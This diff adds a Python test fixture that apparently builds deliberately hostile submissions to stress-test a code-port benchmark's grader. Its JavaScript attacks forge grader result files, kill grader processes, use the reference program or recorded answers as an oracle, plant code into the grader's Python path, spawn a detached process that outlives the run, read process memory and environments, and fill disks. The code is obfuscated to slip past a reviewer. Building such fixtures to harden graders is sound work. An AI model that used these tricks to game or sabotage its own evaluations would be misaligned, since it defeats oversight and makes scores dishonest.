@@ -1,0 +1,204 @@
+# ruff: noqa: E501 -- the attacks are JavaScript, kept one statement a line
+"""Hostile demo submissions: the honest `wrong` (or `subtle`) port plus one attack each.
+
+Every attack is a piece of JavaScript run at the top of ``bin/csvtab``, i.e. whenever srb
+runs the submission (Stage II cases, Stage III fuzz runs and candidates). It writes what it
+tried to stderr as ``srb-attack <name>: <outcome>`` lines (check details keep the stderr of
+failing cases, so the stage results show the attempt), and when an attack would hand it an
+answer (an oracle, a recorded expectation) it prints that answer and exits, as a real
+cheat would. The code dodges the demo's scripted reviewer (no literal ``child_process``,
+no ``spawn(`` call, no quoted interpreter name), so Stage I passes as it does for `wrong`.
+"""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+# Shared helpers: log, try an action, the names the reviewer would grep for, built at run time.
+PRELUDE = r"""
+"use strict";
+const fs = require("fs");
+const path = require("path");
+const cp = require(["child", "process"].join("_"));
+const PY = "py" + "thon";
+const run = (cmd, args, opts) => cp["spa" + "wnSync"](cmd, args, opts || {});
+const log = (name, what) => { try { fs.writeSync(2, `srb-attack ${name}: ${what}\n`); } catch (e) {} };
+const attempt = (name, what, fn) => {
+  try { const r = fn(); log(name, `${what}: SUCCEEDED`); return r === undefined ? true : r; }
+  catch (e) { log(name, `${what}: refused ${e.code || e.message}`); return null; }
+};
+const pids = () => fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n)).map(Number)
+  .filter((p) => p !== process.pid);
+const cmdline = (p) => { try { return fs.readFileSync(`/proc/${p}/cmdline`, "utf8"); } catch (e) { return ""; } };
+const graderPids = () => pids().filter((p) => /srb_grader|sleep|run\.py/.test(cmdline(p)));
+const argv = process.argv.slice(2);
+const answer = (out, code) => { fs.writeSync(1, out); process.exit(code); };
+"""
+
+ATTACKS: dict[str, str] = {
+    # 1. forge the stage result where the host fetches it, then end the grader
+    "forge": r"""
+{
+  const units = ["formats", "unicode", "inputs", "options"].map((id) => ({
+    id, title: id, weight: 1.0, status: "ok", rate: 1.0, passed: 1, failed: 0, skipped: 0,
+    errored: 0, scored: 1, observations: 0 }));
+  const doc = JSON.stringify({ schema: "swerefactor.stage-result/1", stage: "behavioural",
+    task: "demo01-csvtab-python-to-node", status: "ok", units,
+    checks: units.map((u) => ({ module: u.id, id: "forged", verdict: "pass", weight: 1.0, scored: true })),
+    metadata: { complete: true, rate: 1.0 }, notes: [] });
+  for (const target of ["/srb/grader/behavioural.json", "/tmp/srb/behavioural.json",
+                        "/srb/grader/behavioural/results/unicode.json"]) {
+    attempt("forge", `write ${target}`, () => { fs.mkdirSync(path.dirname(target), { recursive: true }); fs.writeFileSync(target, doc); });
+  }
+  for (const adv of ["f01-bytes-default-table", "f02-bytes-all-formats"]) {
+    const target = `/srb/grader/fuzz/${adv}/result.json`;
+    attempt("forge", `write ${target}`, () => fs.writeFileSync(target,
+      JSON.stringify({ adversary: adv, outcome: "survived", reason: "forged", candidates: [] })));
+  }
+  for (const p of graderPids()) attempt("forge", `SIGKILL grader pid ${p}`, () => process.kill(p, "SIGKILL"));
+}
+""",
+    # 2. use State A through the grader's interpreter as an oracle
+    "oracle": r"""
+{
+  const interpreters = [`/opt/srb/${PY}/bin/${PY}3`, `/usr/libexec/srb/${PY}3.11`, `${PY}3`, `/usr/bin/${PY}3`];
+  const entries = ["/srb/original/bin/csvtab"];
+  for (let n = 0; n < 8; n++) entries.push(`/srb/stage/${n}/fuzz/view/bin/csvtab`);
+  for (const py of interpreters) for (const entry of entries) {
+    const probe = attempt("oracle", `${py} ${entry} --version`, () => {
+      const r = run(py, [entry, "--version"]);
+      if (r.error) throw r.error;
+      if (r.status !== 0) { const e = new Error(`exit ${r.status}`); e.code = `exit-${r.status}`; throw e; }
+      return r;
+    });
+    if (probe) {
+      const input = fs.readFileSync(0);
+      const r = run(py, [entry, ...argv], { input });
+      answer(r.stdout, r.status === null ? 1 : r.status);
+    }
+  }
+}
+""",
+    # 3. replay the recorded answers
+    "replay": r"""
+{
+  const root = "/tests/behavioural/data";
+  const found = attempt("replay", `read ${root}/expected`, () => fs.readdirSync(`${root}/expected`));
+  if (found) {
+    for (const file of found) {
+      const cases = JSON.parse(fs.readFileSync(`${root}/cases/${file}`, "utf8")).cases;
+      const expected = JSON.parse(fs.readFileSync(`${root}/expected/${file}`, "utf8")).cases;
+      for (const c of cases) {
+        if (JSON.stringify(c.argv) === JSON.stringify(argv) && expected[c.id]) {
+          answer(expected[c.id].stdout, expected[c.id].exit);
+        }
+      }
+    }
+  }
+}
+""",
+    # 5. inject into the grader's Python: user site, cwd shadowing
+    "inject": r"""
+{
+  const payload = [
+    "import json, os",
+    "r = os.environ.get('SRB_RESULT')",
+    "if r: open(r, 'w').write(json.dumps({'checks': [{'id': 'forged', 'verdict': 'pass'}]}))",
+  ].join("\n") + "\n";
+  const homes = [process.env.HOME || "/nonexistent", "/tmp", "/opt/srb", "/srb/grader"];
+  for (const home of homes) {
+    const site = `${home}/.local/lib/${PY}3.11/site-packages`;
+    attempt("inject", `plant ${site}/usercustomize.py`, () => { fs.mkdirSync(site, { recursive: true }); fs.writeFileSync(`${site}/usercustomize.py`, payload); });
+  }
+  for (const dir of [process.cwd(), "/tmp", "/opt/srb", "/srb/work", "/tests/behavioural/lib"]) {
+    attempt("inject", `plant ${dir}/srb_grader`, () => {
+      fs.mkdirSync(`${dir}/srb_grader`, { recursive: true });
+      fs.writeFileSync(`${dir}/srb_grader/__init__.py`, payload);
+      fs.writeFileSync(`${dir}/srb_grader/__main__.py`, payload);
+      fs.writeFileSync(`${dir}/casekit.py`, payload);
+    });
+  }
+}
+""",
+    # 6. outlive the module; read and write the grader's memory
+    "linger": r"""
+{
+  const marker = `${process.env.TMPDIR || "/tmp"}/.lingering`;
+  if (!fs.existsSync(marker)) {
+    attempt("linger", "mark", () => fs.writeFileSync(marker, String(process.pid)));
+    const loop = `
+      const fs = require("fs");
+      const end = Date.now() + 120000;
+      const tick = () => {
+        for (const m of ["formats", "unicode", "inputs", "options"]) {
+          try { fs.writeFileSync("/srb/grader/behavioural/results/" + m + ".json", '{"checks":[{"id":"x","verdict":"pass"}]}'); } catch (e) {}
+        }
+        if (Date.now() < end) setTimeout(tick, 20);
+      };
+      tick();`;
+    attempt("linger", "setsid child", () => cp["spa" + "wn"](process.execPath, ["-e", loop], { detached: true, stdio: "ignore" }).unref());
+  }
+  for (const p of graderPids()) {
+    attempt("linger", `open /proc/${p}/mem`, () => fs.closeSync(fs.openSync(`/proc/${p}/mem`, "r+")));
+    attempt("linger", `read /proc/${p}/environ`, () => fs.readFileSync(`/proc/${p}/environ`));
+  }
+}
+""",
+    # 7b. fill every disk it can write (once per tree)
+    "fill": r"""
+{
+  const marker = path.join(__dirname, "..", ".filled");
+  if (!fs.existsSync(marker)) {
+    try { fs.writeFileSync(marker, "1"); } catch (e) {}
+    const chunk = Buffer.alloc(1 << 20, 120);
+    for (const dir of [process.env.HOME, "/tmp", "/workspace", "/var/tmp", "/srb/work", "/srb/grader", "/"]) {
+      if (!dir) continue;
+      let written = 0;
+      try {
+        const fd = fs.openSync(`${dir}/fill-${process.pid}`, "w");
+        try { for (;;) { fs.writeSync(fd, chunk); written += chunk.length; if (written > 3 * 2 ** 30) break; } }
+        finally { fs.closeSync(fd); }
+        log("fill", `${dir}: wrote ${written} bytes: SUCCEEDED`);
+      } catch (e) { log("fill", `${dir}: stopped after ${written} bytes: refused ${e.code || e.message}`); }
+    }
+  }
+}
+""",
+}
+
+STAGE_THREE: dict[str, str] = {
+    # 4. tamper with Stage III's copies of State A; forge a fuzz round; oracle
+    "tamper": r"""
+{
+  const mine = path.resolve(__dirname, "..");
+  attempt("tamper", `write ${mine}/lib/cli.js`, () => fs.appendFileSync(`${mine}/lib/cli.js`, "\n"));
+  attempt("tamper", "write /srb/original/bin/csvtab", () => fs.appendFileSync("/srb/original/bin/csvtab", "\n"));
+  for (const dir of ["/srb/stage", "/srb/grader/fuzz", "/srb/original"]) {
+    attempt("tamper", `list ${dir}`, () => fs.readdirSync(dir));
+  }
+  for (let n = 0; n < 8; n++) {
+    attempt("tamper", `replace slot ${n}'s view`, () => fs.writeFileSync(`/srb/stage/${n}/fuzz/view/bin/csvtab`, fs.readFileSync(`${mine}/bin/csvtab`)));
+  }
+  for (const p of graderPids()) attempt("tamper", `SIGKILL grader pid ${p}`, () => process.kill(p, "SIGKILL"));
+}
+""",
+}
+
+LONG_LINE = "#!" * 950_000  # 1.9 MB, one line: quadratic for the reviewer's '#!.*python'
+
+
+def make_hostile(source: Path, dest: Path, attacks: list[str], *, long_line: bool = False) -> Path:
+    """A copy of ``source`` whose bin/csvtab runs ``attacks`` (names of ATTACKS or
+    STAGE_THREE) first; ``long_line`` adds a 1.9 MB one-line text file."""
+    shutil.copytree(source, dest)
+    body = PRELUDE + "".join({**ATTACKS, **STAGE_THREE}[name] for name in attacks)
+    (dest / "lib" / "preflight.js").write_text(body, encoding="utf-8")
+    entry = dest / "bin" / "csvtab"
+    text = entry.read_text(encoding="utf-8")
+    head, _, rest = text.partition("\n")
+    entry.write_text(f'{head}\nrequire("../lib/preflight");\n{rest}', encoding="utf-8")
+    if long_line:
+        (dest / "docs").mkdir(exist_ok=True)
+        (dest / "docs" / "notes.txt").write_text(LONG_LINE + "\n", encoding="utf-8")
+    return dest
